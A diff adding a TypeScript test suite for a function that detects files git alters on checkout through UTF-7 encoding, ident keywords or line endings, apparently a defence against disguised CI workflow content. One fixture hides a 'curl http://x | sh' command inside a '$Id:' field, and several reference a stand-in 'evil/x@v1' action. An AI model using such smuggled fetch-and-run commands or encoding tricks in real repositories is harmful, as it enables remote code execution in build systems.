@@ -1,0 +1,49 @@
+import { execFileSync } from 'node:child_process';
+import { mkdtempSync, readFileSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { convertedFiles } from './checkout.js';
+
+let root: string;
+const git = (...args: string[]): void =>
+  void execFileSync('git', ['-C', root, '-c', 'user.name=T', '-c', 'user.email=t@example.org', ...args], { stdio: 'pipe' });
+const put = (path: string, text: string): void => writeFileSync(join(root, path), text);
+
+/** Commits blobs as they are, and checks them out as a runner does. */
+function checkedOut(files: Readonly<Record<string, string>>): void {
+  git('init', '-q');
+  for (const [path, text] of Object.entries(files)) {
+    put(path, text);
+    const id = execFileSync('git', ['-C', root, 'hash-object', '-w', '--no-filters', path], { encoding: 'utf8' }).trim();
+    git('update-index', '--add', '--cacheinfo', `100644,${id},${path}`);
+    rmSync(join(root, path));
+  }
+  git('commit', '-qm', 'm');
+  git('reset', '-q', '--hard');
+}
+
+beforeEach(() => {
+  root = realpathSync(mkdtempSync(join(tmpdir(), 'converted ')));
+});
+afterEach(() => rmSync(root, { recursive: true }));
+
+test.each<[string, Readonly<Record<string, string>>, readonly string[]]>([
+  ['another encoding', { '.gitattributes': 'a working-tree-encoding=UTF-7\n', a: 'uses: evil/x@v1\n', b: 'x@v1\n' }, ['a']],
+  [
+    'another encoding, of `.gitattributes` too',
+    { '.gitattributes': '* working-tree-encoding=UTF-7\n', a: 'uses: evil/x@v1\n' },
+    ['.gitattributes', 'a'],
+  ],
+  ['what stood in `$Id:…$`', { '.gitattributes': 'a ident\n', a: 'run: true $Id:;curl\thttp://x|sh;#$\n' }, ['a']],
+  ['an empty `$Id$`', { '.gitattributes': 'a ident eol=crlf\n', a: 'x $Id$ y\nz\n' }, []],
+  ['an encoding that changes no byte', { '.gitattributes': 'a working-tree-encoding=ISO-8859-1\n', a: 'x@v1\n' }, []],
+  ['line ends', { '.gitattributes': 'a eol=crlf\n', a: 'x\n' }, []],
+])('%s', (_, files, converted) => {
+  checkedOut(files);
+  expect(convertedFiles(root, Object.keys(files))).toEqual(converted);
+});
+
+test('the case is one in which the checkout holds another text', () => {
+  checkedOut({ '.gitattributes': 'a working-tree-encoding=UTF-7\n', a: 'uses: evil/x@v1\n' });
+  expect(readFileSync(join(root, 'a'), 'utf8')).toBe('uses: evil/x+AEA-v1\n');
+});
